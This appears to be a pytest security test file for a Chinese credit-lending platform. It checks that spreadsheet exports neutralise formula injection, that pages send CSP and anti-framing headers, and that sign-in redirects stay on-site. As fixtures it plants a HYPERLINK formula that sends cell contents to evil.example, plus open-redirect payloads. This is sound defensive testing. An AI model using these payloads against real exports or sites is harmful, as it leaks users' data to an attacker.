"""What an attacker can plant in what the platform hands to browsers and spreadsheet programs (issue 25,
docs/security.md): formulas in exports, framing and foreign scripts on pages, a redirect after sign-in.

An enterprise registers under a name that starts like a formula (with a USCC credit-service does not know,
so verification keeps the name), applies with a purpose that starts like one, at a bank whose name
starts like one; every export a government officer or an admin can take then holds those texts as plain
text: no formula or link in any `.xlsx`, every such `.csv` cell prefixed with `'`, numbers still numbers.
"""

import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
import requests
from api_client import Api
from playwright.sync_api import expect
from scenario import (
    STAFF_PASSWORD,
    admin_with_xuchang,
    institution_user,
    new_institution,
    order_service_ready,
    published_product,
    random_uscc,
    verified_enterprise,
)
from test_web_institution import fill_login

from xyd_testing.helpers import FORMULA_PREFIXES, csv_rows, wait_until, xlsx_formulas_and_links

# The prefixes a typed name or purpose can carry (purposes are stripped on input: TAB and CR are tested at
# the writer, common/tests/test_spreadsheets.py).
TYPED_PREFIXES = [p for p in FORMULA_PREFIXES if p.strip()]
HYPERLINK = 'HYPERLINK("http://evil.example/?d="&A1,"详情")'
ORDER_EXPORTS = ["/orders/export", "/orders/stats/export?group_by=region", "/orders/stats/export?group_by=month"]
PAGE_DIRECTIVES = ["default-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'self'"]


@pytest.fixture(scope="module")
def hostile(platform):
    admin = admin_with_xuchang(platform)
    institution = new_institution(admin, name="@SUM(1,2)许昌银行")
    bank = institution_user(platform, admin, institution)
    product = published_product(bank)
    orders = []
    for prefix in TYPED_PREFIXES:
        name = f"{prefix}{HYPERLINK}"
        enterprise, _ = verified_enterprise(platform, admin, random_uscc(), name=name)
        wait_until(lambda e=enterprise: order_service_ready(e, product), timeout=30, interval=0.3,
                   message="order-service to know the enterprise and the product")
        resp = enterprise.post("/orders", json={"product_id": product["id"], "amount": 100, "term_months": 12,
                                                "purpose": f"{prefix}1+2 采购原材料", "credit_authorized": True})
        assert resp.status_code == 201, resp.text
        orders.append(resp.json())
    assert [o["enterprise_name"] for o in orders] == [f"{p}{HYPERLINK}" for p in TYPED_PREFIXES]  # as given
    return {"admin": admin, "institution": institution, "bank": bank, "orders": orders}


def download(api: Api, path: str, fmt: str, institution_id: int) -> bytes:
    sep = "&" if "?" in path else "?"
    resp = api.get(f"{path}{sep}format={fmt}&institution_id={institution_id}")
    assert resp.status_code == 200, resp.text
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Content-Disposition"].startswith("attachment")
    return resp.content


def test_every_export_holds_formula_like_text_as_text(hostile):
    admin, institution, orders = hostile["admin"], hostile["institution"], hostile["orders"]
    numbers = {o["order_no"] for o in orders}  # the export may hold other tests' orders too
    expected_text = {o["enterprise_name"] for o in orders} | {o["purpose"] for o in orders} | {institution["name"]}
    for path in ORDER_EXPORTS:
        data = download(admin, path, "xlsx", institution["id"])
        assert xlsx_formulas_and_links(data) == [], path
        cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(data)) for row in sheet.iter_rows()
                 for cell in row if cell.value is not None]
        texts = {c.value for c in cells if c.data_type == "s"}
        assert all(c.data_type in ("s", "n") for c in cells), path
        if path == "/orders/export":
            assert expected_text <= texts  # the names, purposes and the bank's name, each as given
            sheet = openpyxl.load_workbook(io.BytesIO(data))["订单"]
            header, *body = sheet.iter_rows(values_only=True)
            ours = [row for row in body if row[0] in numbers]
            assert len(ours) == len(orders)
            assert all(row[header.index("申请金额（万元）")] == 100 for row in ours)  # numbers stay numbers
        else:
            assert institution["name"] in texts

        rows = csv_rows(download(admin, path, "csv", institution["id"]))
        if path != "/orders/export":  # one table of figures per group: text cells are never formula-like
            for cell in (cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), f"{path}: unprefixed formula-like cell {cell!r}"
            continue
        header, *body = rows
        ours = [dict(zip(header, row, strict=True)) for row in body if row[0] in numbers]
        assert len(ours) == len(orders)
        for record in ours:
            for cell in record.values():
                if cell.startswith(FORMULA_PREFIXES):
                    assert re.fullmatch(r"-?\d+(\.\d+)?", cell), f"unprefixed formula-like cell {cell!r}"
            assert record["企业名称"] in {"'" + o["enterprise_name"] for o in orders}
            assert record["用途"] in {"'" + o["purpose"] for o in orders}
            assert record["金融机构"] == "'" + institution["name"]
            assert Decimal(record["申请金额（万元）"]) == 100


def test_the_bank_exports_its_own_orders_safely_too(hostile):
    data = download(hostile["bank"], "/orders/export", "xlsx", hostile["institution"]["id"])
    assert xlsx_formulas_and_links(data) == []
    rows = csv_rows(download(hostile["bank"], "/orders/export", "csv", hostile["institution"]["id"]))
    assert len(rows) == 1 + len(hostile["orders"]) and all(r[2].startswith("'") for r in rows[1:])


def page_headers(platform, path: str) -> requests.structures.CaseInsensitiveDict:
    resp = requests.get(platform.gateway + path, timeout=10)
    assert resp.status_code == 200, (path, resp.status_code)
    assert resp.headers["Content-Type"].startswith("text/html"), path
    return resp.headers


def test_every_page_forbids_framing_and_foreign_scripts(platform, hostile):
    product = hostile["bank"].get("/products/mine").json()["items"][0]
    for path in ("/", "/market", f"/products/{product['id']}", "/no-such-page", "/login?redirect=//evil.example",
                 "/api/docs"):
        headers = page_headers(platform, path)
        for directive in PAGE_DIRECTIVES:
            assert directive in headers["Content-Security-Policy"], path
        assert headers["X-Frame-Options"] == "DENY", path
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin", path
        assert headers["X-Content-Type-Options"] == "nosniff", path
    # Not a page: no page policy, but nosniff still.
    for resp in (requests.get(platform.gateway + "/api/v1/market/products", timeout=10),
                 requests.get(platform.gateway + "/api/v1/orders", timeout=10),
                 requests.get(platform.gateway + "/api/v1/no-such-area", timeout=10)):
        assert resp.headers["Content-Type"].startswith("application/json")
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert "X-Frame-Options" not in resp.headers


def test_swagger_ui_runs_under_the_page_policy(desktop):
    desktop.goto("/api/docs")
    expect(desktop.get_by_text("信易贷平台 API").first).to_be_visible(timeout=30_000)
    # The checked page fails the test on any CSP violation or console error (browser.py).


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example"])
def test_a_sign_in_never_leads_off_the_site(platform, desktop, hostile, target):
    admin = Api(platform.gateway)
    admin.login()
    enterprise, user = verified_enterprise(platform, admin, random_uscc(), name="许昌安全测试制造有限公司")
    desktop.goto("/login?role=enterprise&redirect=" + requests.utils.quote(target, safe=""))
    fill_login(desktop, enterprise, user["phone"], STAFF_PASSWORD)
    desktop.get_by_role("button", name="登录", exact=True).click()
    expect(desktop).to_have_url(re.compile(r"/enterprise/orders$"))
    assert "evil" not in desktop.url


def assert_safe_export(api: Api, path: str, texts: set[str]) -> None:
    """`path` as .xlsx (no formula or link; each of `texts` a plain string cell) and as .csv (each of
    `texts` prefixed with `'`, every other formula-like cell a number)."""
    sep = "&" if "?" in path else "?"
    resp = api.get(f"{path}{sep}format=xlsx")
    assert resp.status_code == 200, resp.text
    assert xlsx_formulas_and_links(resp.content) == [], path
    cells = {cell.value for sheet in openpyxl.load_workbook(io.BytesIO(resp.content)) for row in sheet.iter_rows()
             for cell in row if cell.data_type == "s"}
    assert texts <= cells, path
    resp = api.get(f"{path}{sep}format=csv")
    assert resp.status_code == 200, resp.text
    flat = [cell for row in csv_rows(resp.content) for cell in row]
    assert {"'" + text for text in texts} <= set(flat), path
    assert not texts & set(flat), f"{path}: a formula-like text left unprefixed"


def test_the_loan_and_visit_exports_hold_formula_like_text_as_text(platform, hostile):
    """The newer exports go through the same writer: the loan list (after a hostile enterprise's order is
    disbursed) and the government's 走访 records."""
    bank, admin, order = hostile["bank"], hostile["admin"], hostile["orders"][0]
    for action, body in (("accept", None), ("grant", {"amount": 100, "rate": 4, "term_months": 12}),
                         ("disburse", {"amount": 100, "disbursed_on": china_today()})):
        assert bank.post(f"/orders/{order['id']}/{action}", json=body).status_code == 200
    wait_until(lambda: bank.get("/loans", params={"q": order["order_no"]}).json()["items"], timeout=30,
               interval=0.3, message="loan-service to open the loan")
    assert_safe_export(bank, f"/loans/export?q={order['order_no']}", {order["enterprise_name"]})

    findings = "=1+2 企业资金缺口约 200 万元"
    visit = {"uscc": random_uscc(), "enterprise_name": order["enterprise_name"], "visited_on": china_today(),
             "region_code": "411002", "visitors": "@市发改委 王强", "findings": findings}
    resp = admin.post("/visits", json=visit)
    assert resp.status_code == 201, resp.text
    assert_safe_export(admin, "/visits/export", {order["enterprise_name"], findings, "@市发改委 王强"})


def china_today() -> str:
    return (datetime.now(UTC) + timedelta(hours=8)).date().isoformat()
